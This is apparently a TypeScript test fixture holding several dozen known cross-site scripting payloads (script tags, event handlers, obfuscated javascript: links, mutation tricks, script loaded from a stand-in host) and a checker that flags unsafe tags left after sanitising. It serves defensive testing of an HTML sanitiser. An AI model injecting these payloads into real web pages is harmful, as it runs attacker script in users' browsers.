/**
 * Known XSS payloads, for the server's sanitising tests and for the widget's rendering test in
 * Chromium. Each is a body of HTML as a feed or a staff member might send it.
 */
export const XSS_PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://example.org/a.png" onload="alert(1)" alt="ok">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="jav&#x09;ascript:alert(1)">tab</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">entities</a>',
  '<a href=" javascript:alert(1)">space</a>',
  '<a href="java\nscript:alert(1)">newline</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="javascript:alert(1)">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(javascript:alert(1))">styled</p>',
  '<div style="width: expression(alert(1))">expression</div>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg><style><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<img src=x onerror=alert(1)//',
  '<p class="x" onclick="alert(1)">para</p>',
  '"><img src=x onerror=alert(1)>',
  '<a href="https://example.org" onmouseover="alert(1)" target="_top">ok link</a>',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<img srcset="https://example.org/a.png 1x, javascript:alert(1) 2x" src="https://example.org/a.png">',
  '<details open ontoggle=alert(1)>',
  '<template><script>alert(1)</script></template>',
];

/** All payloads as one body, each in its own paragraph of context. */
export const XSS_BODY = XSS_PAYLOADS.map((payload, i) => `<p>payload ${i}</p>${payload}`).join('\n');

/**
 * What must never be left in sanitised HTML: checks on the tags only, since text may well say
 * "onerror=" once its angle brackets are escaped.
 */
export function unsafeParts(html: string): string[] {
  const found: string[] = [];
  for (const [tag] of html.matchAll(/<[^>]*>?/g)) {
    if (/^<\/?\s*(script|svg|iframe|style|math|object|embed|form|base|meta|template|noscript)\b/i.test(tag))
      found.push(tag);
    if (/\son[a-z]+\s*=/i.test(tag)) found.push(tag);
    if (/(javascript|data|vbscript)\s*:/i.test(tag)) found.push(tag);
    if (/\s(style|class|srcset|srcdoc|target)\s*=/i.test(tag)) found.push(tag);
  }
  return found;
}
